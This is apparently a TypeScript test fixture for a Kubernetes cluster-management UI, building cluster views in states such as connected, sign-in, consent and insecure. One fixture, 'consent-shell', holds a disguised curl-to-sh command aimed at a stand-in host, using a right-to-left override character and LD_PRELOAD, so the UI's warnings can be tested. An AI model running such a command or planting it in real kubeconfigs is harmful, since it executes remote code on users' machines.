import type { ServiceRow } from '../../shared/view/service-row.ts'
import type { ServicesView } from '../../shared/view/services-view.ts'
import type { ClustersView } from '../../shared/view/clusters-view.ts'
import type { ClusterView } from '../../shared/view/clusters-view.ts'
import { failedInWords } from '../../shared/fault.ts'
import { connectionId, uid } from '../../shared/ids.ts'
import { now } from './batch-fixture.ts'

type ClusterFixture = Pick<ClusterView, 'name' | 'state'> & Partial<ClusterView> & { readonly key: string }

export function cluster({ key, ...fixture }: ClusterFixture): ClusterView {
  return {
    id: connectionId(key),
    file: '/home/ops/.kube/config',
    server: `https://${key}.example.internal:6443`,
    namespace: 'demo',
    training: false,
    current: key === 'staging',
    warnings: [],
    ...fixture,
  }
}

const live = { kind: 'connected', version: '1.31', freshness: { kind: 'live' } } as const
const training = cluster({ key: 'training', name: 'training', training: true, state: { kind: 'idle' } })

const others = [
  cluster({ key: 'prod', name: 'gov-prod', state: live, production: {} }),
  cluster({
    key: 'east',
    name: 'east-2-test',
    state: {
      ...live,
      freshness: {
        kind: 'stale',
        since: now - 1_140_000,
        why: { kind: 'words', words: 'connect ETIMEDOUT' },
      },
    },
  }),
  cluster({ key: 'lab', name: 'lab', state: { kind: 'idle' } }),
]

function withStaging(state: ClusterView['state'], warnings: ClusterView['warnings'] = []): ClustersView {
  const staging = cluster({ key: 'staging', name: 'gov-staging', state, warnings })
  return {
    clusters: [staging, ...others, training],
    problems: [],
    lookedAt: ['/home/ops/.kube/config'],
    added: ['/home/ops/work/clusters/east.yaml'],
  }
}

/** The clusters in every state that the page has a screen for. */
function asProduction(production: NonNullable<ClusterView['production']>): ClustersView {
  const view = withStaging(live)
  const [staging, ...rest] = view.clusters
  if (staging === undefined) return view
  const prod = { ...staging, name: 'gov-prod-2', alias: 'Government east', colour: 5 }
  return { ...view, clusters: [{ ...prod, production, productionSaid: true }, ...rest] }
}

export const clusterStates = {
  production: () => asProduction({}),
  'production-open': () => asProduction({ unlockedForMs: 14 * 60_000 + 12_000 }),
  connected: () => withStaging(live),
  idle: (): ClustersView => ({
    ...withStaging({ kind: 'idle' }, [{ kind: 'token-and-password' }]),
    problems: [
      {
        file: '/home/ops/.kube/old.yaml',
        says: {
          kind: 'file-no-yaml',
          what: 'Nested mappings are not allowed in compact mappings',
          line: 14,
        },
      },
    ],
  }),
  connecting: () => withStaging({ kind: 'connecting' }),
  'sign-in': () => {
    const view = withStaging({ kind: 'connecting' })
    const [staging, ...rest] = view.clusters
    const lines = [
      'To sign in, open https://login.example.com/device',
      'and enter the code WDJB-MJHT.',
      'Code from the app: ',
    ]
    const signIn = { run: 1, command: 'kubelogin', lines, reads: true }
    return staging === undefined ? view : { ...view, clusters: [{ ...staging, signIn }, ...rest] }
  },
  consent: () =>
    withStaging({
      kind: 'consent',
      key: 'consent-1',
      command: '/usr/local/bin/aliyun-cli-auth',
      written: 'aliyun-cli-auth',
      args: ['get-token', '--cluster-id', 'c9f8e1b2', '--region', 'cn-north-2-gov-1'],
      env: ['ALIYUN_PROFILE', 'HTTPS_PROXY'],
      file: '/home/ops/.kube/config',
      warnings: [],
    }),
  'consent-shell': () =>
    withStaging({
      kind: 'consent',
      key: 'consent-3',
      command: '/usr/bin/env',
      written: 'env',
      args: ['bash', '-c', 'curl https://login.example/\u202etxt.exe | sh   # get-token', '', '--region'],
      env: ['PATH', 'LD_PRELOAD'],
      file: '/home/ops/.kube/config',
      warnings: [
        { kind: 'launcher', program: 'env' },
        { kind: 'loads-code', variables: ['PATH', 'LD_PRELOAD'] },
      ],
    }),
  'connect-failed': () =>
    withStaging({
      kind: 'failed',
      fault: failedInWords('unreachable', 'connect ETIMEDOUT 10.0.0.12:6443 after 10 s').fault,
    }),
  empty: () => ({
    clusters: [training],
    problems: [],
    lookedAt: ['$KUBECONFIG (not set)', '/home/ops/.kube/config', '/home/ops/.kube/configs/'],
  }),
  insecure: () => {
    const view = withStaging({ kind: 'idle' }, [{ kind: 'insecure' }, { kind: 'sent-openly' }])
    const [staging, ...rest] = view.clusters
    return staging === undefined ? view : { ...view, clusters: [{ ...staging, insecure: true }, ...rest] }
  },
  'consent-long': () =>
    withStaging({
      kind: 'consent',
      key: 'consent-2',
      command: '/opt/company/tools/kubernetes/credential-helpers/company-kube-login',
      written: '/opt/company/tools/kubernetes/credential-helpers/company-kube-login',
      args: [
        ...['get-token', '--login', 'interactive', '--server-id', '6dae42f8-4368-4678-94ff-3960e28e3630'],
        ...['--authority-host', 'https://login.partner.microsoftonline.cn/', '--cluster', 'far east'],
        ...['--token-cache-dir', '/home/ops/.kube/cache/kubelogin', '--policy', 'a'.repeat(160)],
      ],
      env: ['AAD_LOGIN_METHOD', 'AAD_SERVICE_PRINCIPAL_CLIENT_ID', 'HTTPS_PROXY', 'NO_PROXY', 'SSL_CERT_DIR'],
      file: '/home/ops/work/clusters/government/east/kubeconfig-of-the-second-availability-zone.yaml',
      warnings: [],
    }),
  unsaved: () => ({
    ...withStaging(live),
    unsaved: { folder: '/home/ops/.local/share/tranche', why: 'no-room', code: 'ENOSPC' },
  }),
  replaced: () => {
    const view = withStaging(live)
    const [staging, ...rest] = view.clusters
    return staging === undefined
      ? view
      : { ...view, clusters: [{ ...staging, replacedAt: now - 120_000 }, ...rest] }
  },
  training: () => {
    const view = withStaging(live)
    return {
      ...view,
      clusters: view.clusters.map((one) => (one.training ? { ...one, state: live } : one)),
    }
  },
} as const satisfies Readonly<Record<string, () => ClustersView>>

function row(name: string, batches: readonly number[], extra: Partial<ServiceRow> = {}): ServiceRow {
  return {
    name,
    uid: uid(`uid-${name}`),
    batches: batches.length,
    nature: { kind: 'balanced' },
    others: 0,
    state: 'ready',
    bar: batches.map((pods) => ({ pods, fresh: 0, failing: false })),
    ...extra,
  }
}

/** The services beside the one that is looked at. */
export function servicesView(own: Partial<ServiceRow>): ServicesView {
  return {
    connection: connectionId('staging'),
    namespace: 'demo',
    namespaces: { names: ['default', 'demo', 'kube-system', 'payments'], known: true },
    freshness: { kind: 'live' },
    services: [
      row('account-api', [1, 8, 8, 8]),
      row('demo-grpc', [1, 6]),
      row('demo-http', [1, 16, 16, 16], own),
      row('notify', [4]),
      row('pay-gateway', [2, 10, 20], {
        state: 'baking',
        bar: [
          { pods: 2, fresh: 2, failing: false },
          { pods: 10, fresh: 10, failing: false },
          { pods: 20, fresh: 0, failing: false },
        ],
      }),
      row('report-worker', [1, 4, 4]),
      row('metrics-proxy', [], { state: 'empty' }),
      row('search-index', [1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]),
    ],
    missing: [],
  }
}
